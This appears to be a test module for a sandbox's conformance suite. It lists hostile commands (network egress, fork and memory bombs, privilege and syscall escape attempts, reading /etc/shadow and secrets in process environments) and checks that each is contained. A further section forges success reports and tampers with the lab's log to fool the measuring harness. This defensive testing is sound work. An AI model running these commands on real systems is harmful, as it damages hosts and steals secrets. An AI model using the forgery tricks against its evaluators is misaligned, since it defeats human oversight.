# ruff: noqa: E501 - a shell line is told whole
"""The attacks: what each tries, the command, and what must be seen of it.

Most commands print a word for each thing that they got away with and nothing else; those must end
with no output. A command may hold {words} of the host, see `sandbox.conformance.host.Host`.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace

from sandbox.types import Ending, Execution, Limits

Must = Callable[[Execution], str]  # what was seen instead; "" if all is well

SMALL = Limits(
    wall_s=20, cpu_s=10, memory_bytes=128 << 20, processes=64, file_bytes=4 << 20, output_bytes=9999
)
SHORT = replace(SMALL, wall_s=3)
PAGE = "http://10.1.2.3/admin"


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile command."""

    name: str
    tries: str
    command: str
    must: Must
    limits: Limits = SMALL

    def line(self, words: Mapping[str, str]) -> str:
        """The command with the host's words in place of {name}; other braces stay."""
        line = self.command
        for name, word in words.items():
            line = line.replace(f"{{{name}}}", word)
        return line


def ends(code: int | None, out: str | None = None, detail: str = "") -> Must:
    """Ends by itself with that exit code (None: any but 0) and that output; `detail` names a limit
    that must have been reported."""

    def look(done: Execution) -> str:
        if done.ending is not Ending.EXITED:
            return f"it ended by {done.ending}: {done.detail}"
        if done.exit_code != code if code is not None else done.exit_code == 0:
            return f"exit code {done.exit_code}: {(done.stdout + done.stderr)[-80:].strip()}"
        if out is not None and done.stdout != out:
            return f"it said {done.stdout[:80]!r}"
        if detail not in done.detail or (done.detail and not detail):
            return f"reported as {done.detail!r}"
        return ""

    return look


def times_out(done: Execution) -> str:
    """Is ended at the wall-clock limit and reported so, with no exit code."""
    if (done.ending, done.exit_code) != (Ending.TIMEOUT, None) or "ran longer" not in done.detail:
        return f"it ended by {done.ending}, exit code {done.exit_code}, {done.detail!r}"
    return ""


def survives(done: Execution) -> str:
    """Ends in whatever way, but the sandbox does not break."""
    return f"the sandbox broke: {done.detail}" if done.ending is Ending.INFRASTRUCTURE else ""


def floods(done: Execution) -> str:
    """Both outputs are cut at the limit, and that is said."""
    sizes = len(done.stdout), len(done.stderr)
    whole = sizes == (SMALL.output_bytes,) * 2 and done.truncated
    return "" if whole else f"{sizes} characters were kept, truncated is {done.truncated}"


def fakes(code: int, requests: int = 0) -> Must:
    """Ends with that exit code, whatever it printed, and the lab saw so many requests for a page
    and no login."""

    def look(done: Execution) -> str:
        seen = done.observation
        if len(seen.http) != requests or seen.logins:
            return f"the lab recorded {len(seen.http)} requests and {len(seen.logins)} logins"
        return ends(code)(done)

    return look


CONTAINED = ends(0, out="")


def python(code: str) -> str:
    return f"python3 - <<'END' 2>/dev/null\n{code}\nEND\ntrue"


def each(things: str, attempt: str) -> str:
    """Python that says each thing of a list for which the attempt raises no OSError."""
    lines = "\n".join(f"        {line}" for line in attempt.splitlines())
    head = "import ctypes, fcntl, os, socket, struct\n"
    return python(
        f"{head}for thing in {things}:\n    try:\n{lines}\n        print(thing)\n"
        "    except OSError: pass"
    )


WHERE = "'{addresses}'.split()"
SYSTEM_CALLS = """
libc, calls = ctypes.CDLL(None, use_errno=True), {
 'x86_64': dict(ptrace=101, mount=165, reboot=169, swapon=167, chroot=161, sethostname=170,
  init_module=175, kexec_load=246, add_key=248, keyctl=250, unshare=272, perf_event_open=298,
  open_by_handle_at=304, setns=308, bpf=321, userfaultfd=323, fsopen=430, settimeofday=164),
 'aarch64': dict(mount=40, reboot=142, swapon=224, chroot=51, sethostname=161, init_module=105,
  kexec_load=104, add_key=217, keyctl=219, unshare=97, perf_event_open=241,
  open_by_handle_at=265, setns=268, bpf=280, userfaultfd=282, fsopen=430, settimeofday=170)}
""".strip()

NETWORK = (
    Attack(
        "egress over TCP",
        "connect to the host and to the wide world",
        each(WHERE, "socket.create_connection((thing, {tcp}), 1)"),
        CONTAINED,
    ),
    Attack(
        "egress over UDP",
        "send a datagram to the host and to the wide world",
        # An address of the lab can be sent to; the host hears whether it was the host's.
        python(
            "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\n"
            f"for a in {WHERE}:\n    try: s.sendto(b'x', (a, {{udp}}))\n    except OSError: pass"
        ),
        CONTAINED,
    ),
    Attack(
        "egress over ICMP",
        "ping the wide world",
        "fping -t 300 -r 0 1.1.1.1 8.8.8.8 192.168.0.1 2>/dev/null | grep alive; true",
        CONTAINED,
    ),
    Attack(
        "egress over DNS",
        "ask a real name of every server, and carry data out in it",
        "for at in '' @8.8.8.8 @192.168.0.1; do dig +time=1 +tries=1 +short {mark}.debian.org $at "
        "| grep -v '^;'; done; true",
        CONTAINED,
    ),
    Attack(
        "egress over IPv6",
        "connect over IPv6",
        each("('2606:4700:4700::1111', 'fe80::1%lo')", "socket.create_connection((thing, 80), 1)"),
        CONTAINED,
    ),
    Attack(
        "egress by raw packets",
        "send packets of its own making, with the host's address",
        "ls /sys/class/net 2>/dev/null | grep -v '^lo$'; tail -n +3 /proc/net/dev | grep -v ' lo:'\n"
        + python(
            "import socket\nf = socket.socket(17, socket.SOCK_RAW, 8)\nf.bind(('lo', 0))\n"
            f"r = socket.socket(2, socket.SOCK_RAW, 255)\nfor a in {WHERE}:\n"
            "    ip = bytes.fromhex('4500002000010000401100000a000001') + socket.inet_aton(a)\n"
            "    udp = (9).to_bytes(2, 'big') + int({udp}).to_bytes(2, 'big') + b'\\0\\x0c\\0\\0evil'\n"
            "    f.send(bytes(12) + b'\\x08\\0' + ip + udp)\n"
            "    try: r.sendto(ip + udp, (a, 0))\n    except OSError: pass"
        ),
        CONTAINED,
    ),
    Attack(
        "sockets of the host",
        "connect to Unix sockets of the host: an abstract one, Docker's, D-Bus",
        each(
            "('\\0{unix}', '/var/run/docker.sock', '/run/dbus/system_bus_socket')",
            "socket.socket(socket.AF_UNIX).connect(thing)",
        ),
        CONTAINED,
    ),
    Attack(
        "another network",
        "take an address, turn the device off, add a route, make a device",
        each(
            "(0x8916, 0x8914, 0x890B, 0x8924, 0x89a2)",
            "fcntl.ioctl(socket.socket(2, 2), thing, struct.pack('16sHH4s24x', b'lo', 2, 0, b'\\n\\0\\0\\2'))",
        )
        + "\nfor path in ip_forward conf/all/accept_local; do "
        "(echo 1 > /proc/sys/net/ipv4/$path) 2>/dev/null && echo $path; done; true",
        CONTAINED,
    ),
)

RESOURCES = (
    Attack(
        "fork bomb",
        "multiply until the machine stands still",
        "bomb() { bomb | bomb & }; bomb; sleep 2",
        survives,
        SHORT,
    ),
    Attack(
        "memory bomb",
        "take all memory in one process",
        "python3 -c 'x = bytearray(1 << 30); print(len(x))'",
        ends(None, out=""),
    ),
    Attack(
        "memory bomb in pieces",
        "take all memory in many processes",
        "for i in 1 2 3 4 5 6; do python3 -c \"import time; x = b'x' * (60 << 20); time.sleep(9)\" & "
        "done; wait",
        lambda done: (
            ""
            if "more than 128 MiB of memory" in done.detail and done.exit_code is not None
            else f"reported as {done.detail!r}, exit code {done.exit_code}"
        ),
    ),
    Attack(
        "disk fill",
        "write until the disk is full",
        "for at in /work /tmp /dev/shm; do for i in 1 2 3; do "
        "head -c 3000000 /dev/zero > $at/$i || break; done 2>/dev/null; "
        "[ $(du -sm $at | cut -f1) -gt 4 ] && echo $at; done; true",
        CONTAINED,
    ),
    Attack(
        "one large file",
        "write one file larger than a file may be",
        "head -c 40000000 /dev/zero > /work/large",
        ends(None, out=""),
    ),
    Attack(
        "inode fill",
        "make a million empty files",
        python(
            "import os\ntry:\n    for i in range(1000000): os.mknod(f'/tmp/{i}')\n"
            "    print('all')\nexcept OSError: pass"
        ),
        # A limit of the file system, or a count that is watched.
        lambda done: (
            survives(done)
            or ("all were made" if "all" in done.stdout else "")
            or ("it took the whole time" if done.ending is Ending.TIMEOUT else "")
        ),
    ),
    Attack(
        "output flood",
        "print without end on both outputs",
        "head -c 9000000 /dev/zero | tr '\\0' x; head -c 9000000 /dev/zero | tr '\\0' x >&2",
        floods,
    ),
    Attack("output without end", "print until it is stopped", "yes & yes >&2", survives, SHORT),
    Attack(
        "file descriptors",
        "open files until no more can be opened by anyone",
        python(
            "import os\ntry:\n    for _ in range(3000): os.open('/dev/null', 0)\n"
            "    print('all')\nexcept OSError: pass"
        ),
        CONTAINED,
    ),
    Attack(
        "endless loop",
        "use the processor without end",
        "while :; do :; done",
        ends(152, detail="more than 1 s of processor time"),
        replace(SMALL, cpu_s=1, wall_s=60),
    ),
)

PROCESSES = (
    Attack(
        "ignored signals",
        "ignore every signal that can be ignored",
        "trap '' $(seq 1 31); while :; do sleep 1; done",
        times_out,
        SHORT,
    ),
    Attack(
        "closed outputs",
        "close its outputs so that it seems to have ended",
        "exec >&- 2>&-; sleep 60",
        times_out,
        SHORT,
    ),
    Attack(
        "daemon",
        "live on after the command, in a session of its own",
        "(setsid python3 -c 'import time; time.sleep(600)' {mark} >/dev/null 2>&1 &) ; "
        "nohup python3 -c 'import os, time; os.fork(); time.sleep(600)' {mark} >/dev/null 2>&1 & true",
        CONTAINED,
    ),
    Attack(
        "orphan with the output",
        "leave a child that keeps the output open",
        "sleep 600 & echo over",
        ends(0, out="over\n"),
    ),
    Attack(
        "killing all",
        "kill every process that it can see, and the first",
        "kill -9 1 2>/dev/null; kill -9 -1 2>/dev/null; true",
        survives,
    ),
    Attack(
        "typing for another",
        "push characters into a terminal",
        each("(0, 1, 2)", "fcntl.ioctl(thing, 0x5412, b'x')")
        + "\n(: < /dev/tty) 2>/dev/null && echo tty; true",
        CONTAINED,
    ),
)

PRIVILEGE = (
    Attack(
        "kernel settings",
        "write to /proc and /sys",
        "for at in kernel/core_pattern kernel/hostname kernel/modprobe kernel/sysrq vm/drop_caches "
        "fs/binfmt_misc/register net/ipv4/ip_forward user/max_user_namespaces; do "
        "(echo 1 > /proc/sys/$at) 2>/dev/null && echo $at; done\n"
        "for at in /proc/sysrq-trigger /proc/1/mem /proc/self/uid_map /sys/kernel/uevent_helper "
        "/sys/fs/cgroup/release_agent /sys/fs/cgroup/memory/memory.limit_in_bytes; "
        "do (echo 1 > $at) 2>/dev/null && echo $at; done\n"
        "(echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo score; "
        "find /sys -writable -type f 2>/dev/null | head -3; true",
        CONTAINED,
    ),
    Attack(
        "devices",
        "open or make a device of the machine",
        "for at in mem kmem port kmsg sda vda nvme0n1 kvm fuse net/tun loop-control mapper/control "
        "dri/card0 input/event0; do (: < /dev/$at) 2>/dev/null && echo $at; done\n"
        "mknod /tmp/d b 8 0 2>/dev/null && echo made; mknod /tmp/c c 1 1 2>/dev/null && echo made\n"
        "find /dev -type b; find /dev -type c 2>/dev/null | grep -vE "
        "'/dev/(null|zero|full|u?random|tty|console|ptmx|pts/.*)$'; true",
        CONTAINED,
    ),
    Attack(
        "becoming root",
        "gain a user or a capability: su, setuid files, new namespaces",
        each(
            "('setuid', 'setgid', 'setgroups')",
            "getattr(os, thing)([0] if thing == 'setgroups' else 0)",
        )
        + "\ncp /bin/bash /work/b && chmod 6755 /work/b && /work/b -p -c 'id -u' | grep -v 1000\n"
        "su -c id </dev/null 2>/dev/null; unshare --user id 2>/dev/null; unshare --net id 2>/dev/null\n"
        "mount -t tmpfs none /tmp 2>/dev/null && echo mounted; chroot /work /b -c : 2>/dev/null && echo chroot\n"
        "passwd -d user >/dev/null 2>&1 && echo passwd; true",
        CONTAINED,
    ),
    Attack(
        "capabilities",
        "raise its capabilities above the one that it has",
        each(
            "set(range(41)) - {13}",
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "data = struct.pack('6I', *[(1 << thing | 1 << 13) & 0xffffffff] * 3, *[1 << thing >> 32] * 3)\n"
            "if libc.capset(struct.pack('Ii', 0x20080522, 0), data): raise OSError",
        )
        + "\ngrep -E '^Cap' /proc/self/status | grep -v 0000000000002000; true",
        CONTAINED,
    ),
    Attack(
        "system calls",
        "call what only a kernel's owner should",
        # EPERM and ENOSYS are refusals; anything else was looked at by the kernel itself.
        python(
            "import ctypes, platform\n" + SYSTEM_CALLS + "\n"
            "for name, number in calls[platform.machine()].items():\n"
            "    ctypes.set_errno(0)\n"
            "    done = libc.syscall(number, *([0] if name == 'ptrace' else [0x10000000, 0, 0, 0, 0]))\n"
            "    if done >= 0 and name != 'ptrace' or ctypes.get_errno() not in (0, 1, 38): print(name)"
        ),
        CONTAINED,
    ),
)

FILES = (
    Attack(
        "paths that lead out",
        "write through symbolic links and .. to files outside",
        "ln -s / /work/out; ln -s {file} /work/kept; ln -s ../../../../../../../.. /tmp/up\n"
        "for at in /work/kept /work/out{file} /tmp/up{file} {file} /work/out/etc/x /tmp/up/usr/x "
        "/lab/x /proc/1/root/x; do (echo x > $at) 2>/dev/null && echo $at; done; "
        "cat {file} 2>/dev/null; ln /etc/passwd /work/hard 2>/dev/null && echo hard; true",
        CONTAINED,
    ),
    Attack(
        "traps for the broom",
        "leave what is hard to delete: locked, deep and strangely named folders, links to the system",
        "ln -s / /tmp/system; ln -s /lab /work/lab; mkdir -p /work/locked/in; touch /work/locked/in/x; "
        "chmod 0 /work/locked/in /work/locked; mkdir /tmp/$'new\\nline' /tmp/-rf /tmp/$'\\xff'; mkfifo /tmp/fifo\n"
        + python(
            "import os\nos.chdir('/tmp')\nfor _ in range(3000): os.mkdir('d' * 9); os.chdir('d' * 9)"
        ),
        CONTAINED,
    ),
    Attack(
        "leaving a message",
        "leave files, shared memory, semaphores, queues, keys and sockets for the next command",
        "for at in /work /tmp /dev/shm /var/tmp /run /dev/mqueue ~ /var/lock; do (echo {mark} > $at/.left) 2>/dev/null; done\n"
        "ipcmk -M 4096 -S 2 -Q >/dev/null 2>&1\n"
        + python(
            "import ctypes, socket\nlibc = ctypes.CDLL(None)\n"
            "libc.syscall(248, b'user', b'{mark}', b'x', 1, -4)\n"
            "libc.syscall(217, b'user', b'{mark}', b'x', 1, -4)\n"
            "socket.socket(socket.AF_UNIX).bind('\\0{mark}')"
        ),
        CONTAINED,
    ),
    Attack(
        "finding a message",
        "find anything that an earlier command left",
        "grep -rls {mark} /work /tmp /dev/shm /var/tmp /run /proc/keys /proc/net/unix /dev/mqueue 2>/dev/null; "
        "find /work /tmp /dev/shm -mindepth 1; true",
        CONTAINED,
    ),
    Attack(
        "looking at the host",
        "see processes, files or settings of the host, or the lab's own",
        "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -oE -- '-m la[b]|pytes[t]|goodhart-benc[h]'\n"
        "ls -A /root /home /lab /media /mnt /boot 2>/dev/null | grep -vE '^$|:$'; cat /etc/shadow 2>/dev/null\n"
        "cat /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | "
        "grep -aE 'GOODHART|PYTEST|SSH_|TOKEN|SECRET'; ls /proc/self/fd | grep -vE '^[0-3]$'; true",
        CONTAINED,
    ),
)

VERDICT = (
    Attack(
        "forged report",
        "print what success looks like, on every descriptor there is",
        'for n in $(seq 1 64); do for say in \'{"exit-code": 0}\' \'{"ending": "exited", "exit_code": 0, '
        '"stdout": "", "clean": true}\' \'{"connections": [], "http": [{"path": "/admin"}], "truncated": false}\'; '
        'do echo "$say" >&$n; done; done 2>/dev/null; exit 3',
        fakes(3),
    ),
    Attack(
        "shadowed tool",
        "put a false curl and nmap first on PATH",
        "for name in curl nmap; do printf '#!/bin/sh\\necho HTTP/1.1 200 OK\\n' > $name; chmod +x $name; done; "
        f"export PATH=/work:$PATH; curl -s {PAGE}; alias curl=true; curl() {{ echo 200; }}; curl {PAGE}",
        fakes(0),
    ),
    Attack(
        "another's name",
        "run something else under a tool's name, by a file, a link or its arguments",
        "cp /bin/true nmap; ln -s /bin/true sqlmap; PATH=/work:$PATH nmap; /work/sqlmap; "
        "(exec -a /usr/bin/nmap true); bash -c 'exec -a /usr/bin/sqlmap /bin/true'; "
        + python(
            "import ctypes\nlibc = ctypes.CDLL(None)\nfor at in (1, -1, 1 << 63):\n"
            "    libc.execve(b'/bin/true', ctypes.c_void_p(at), None)\n"
            "    libc.execve(ctypes.c_void_p(at), None, None)"
        ),
        lambda done: (
            CONTAINED(done)
            or " ".join(
                p.path
                for p in done.programs or ()
                if p.path in ("/usr/bin/nmap", "/usr/bin/sqlmap")
            )
        ),
    ),
    Attack(
        "the lab's log",
        "write rows to the lab, or make it forget",
        f"curl -s -o /dev/null {PAGE}\n"
        + each(
            "(22, 53, 80, 443, 8080, 9999)",
            "s = socket.create_connection(('127.0.0.1', thing), 1)\n"
            "s.send(b'begin\\ncollect\\n{\"logins\": []}\\n')\ns.close()\nraise OSError",
        )
        + "\nfor at in /proc/[0-9]*/fd/[0-9]*; do (echo begin > $at) 2>/dev/null; done; "
        "kill -9 -- $(pgrep -f 'm lab') 2>/dev/null; (echo x >> /lab/record.py) 2>/dev/null && echo wrote; true",
        lambda done: (
            ("" if [r for r in done.observation.http if r.path == "/admin"] else "the lab forgot")
            or ("it wrote to the lab" if "wrote" in done.stdout else "")
        ),
    ),
    Attack(
        "forged traffic",
        "make the lab record a login or a request with packets of its own making",
        "hping3 -q -c 1 -PA -p 80 -d 40 -E <(printf 'GET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n') 10.1.2.3 "
        "-a 10.9.9.9 >/dev/null 2>&1; true",
        fakes(0),
    ),
    Attack(
        "forged ending",
        "end as if killed for a limit",
        "echo 'used more than 128 MiB of memory' >&2; kill -9 $$",
        ends(137),
    ),
)

SURROUNDINGS = (
    Attack(
        "clock",
        "set the clock, or find another time zone than UTC",
        "date -s 2001-01-01 >/dev/null 2>&1 && echo set; date +%Z%z | grep -v UTC+0000; true",
        CONTAINED,
    ),
    Attack(
        "locale",
        "find a locale of the host",
        "echo ${LANG}${LC_ALL}; printf '%.2f\\n' 1.5; printf 'b\\nB\\na\\n' | sort | tr -d '\\n'",
        ends(0, out="C.UTF-8\n1.50\nBab"),
    ),
    Attack(
        "input",
        "read what the host types",
        "timeout 2 cat; read -r -t 1 line && echo $line; true",
        CONTAINED,
    ),
)

ATTACKS = (*NETWORK, *RESOURCES, *PROCESSES, *PRIVILEGE, *FILES, *VERDICT, *SURROUNDINGS)
